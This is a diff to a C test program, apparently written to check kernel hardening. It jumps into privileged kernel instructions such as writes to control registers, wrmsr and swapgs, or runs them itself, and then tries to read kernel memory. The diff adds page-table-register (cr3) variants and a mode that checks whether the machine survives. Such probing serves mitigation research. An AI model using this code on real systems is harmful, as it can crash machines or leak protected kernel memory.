@@ -1,9 +1,11 @@
 /* A program jumps to a privileged instruction of the kernel's text, with registers of its choice and its own stack, or executes one
- * itself, and then reads the kernel's memory. Prints what it got. usage: kernel-privileged ATTACK [ADDRESS] */
+ * itself, and then reads the kernel's memory. Prints what it got. usage: kernel-privileged ATTACK [ADDRESS [step]],
+ * kernel-privileged no-cr3 ADDRESS... */
 #include <stdint.h>
 #include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
+#include <sys/wait.h>
 #include <unistd.h>
 
 #define DIRECT_MAP 0xffff888000100000
@@ -47,10 +49,11 @@ __asm__(".pushsection .text\n"
 	"own_xsetbv: xsetbv\n\tret\n"
 	"own_cr0: mov %rdi, %cr0\n\tret\n"
 	"own_cr4: mov %rdi, %cr4\n\tret\n"
+	"own_cr3: mov %rdi, %cr3\n\tret\n"
 	"own_xrstor: xrstor64 (%rdi)\n\tret\n"
 	"own_swapgs: swapgs\n\tret\n"
 	".popsection");
-extern char own_wrmsr[], own_xsetbv[], own_cr0[], own_cr4[], own_xrstor[], own_swapgs[];
+extern char own_wrmsr[], own_xsetbv[], own_cr0[], own_cr3[], own_cr4[], own_xrstor[], own_swapgs[];
 
 static uint64_t own(const char *argument, char *here)
 {
@@ -73,6 +76,21 @@ int main(int argc, char **argv)
 	} else if (strcmp(attack, "cr0") == 0) {
 		__asm__ volatile("mov %%cr0, %0" : "=r"(value));
 		jump(own(at, own_cr0), 0, 0, 0, value & ~0x10000ul, step);
+	} else if (strcmp(attack, "cr3") == 0) {
+		/* As it is: with page tables of its own it would go on wherever they say. */
+		__asm__ volatile("mov %%cr3, %0" : "=r"(value));
+		jump(own(at, own_cr3), value, 0, 0, value, step);
+	} else if (strcmp(attack, "no-cr3") == 0) {
+		/* Page tables that are none: who loads them stops the machine. */
+		for (int i = 2; i < argc; i++) {
+			pid_t child = fork();
+
+			if (child == 0)
+				jump(own(argv[i], NULL), 0, 0, 0, 0, 0);
+			waitpid(child, NULL, 0);
+		}
+		printf("survived %d\n", argc - 2);
+		return 0;
 	} else if (strcmp(attack, "cr4") == 0) {
 		__asm__ volatile("mov %%cr4, %0" : "=r"(cr4));
 		opens = 1;
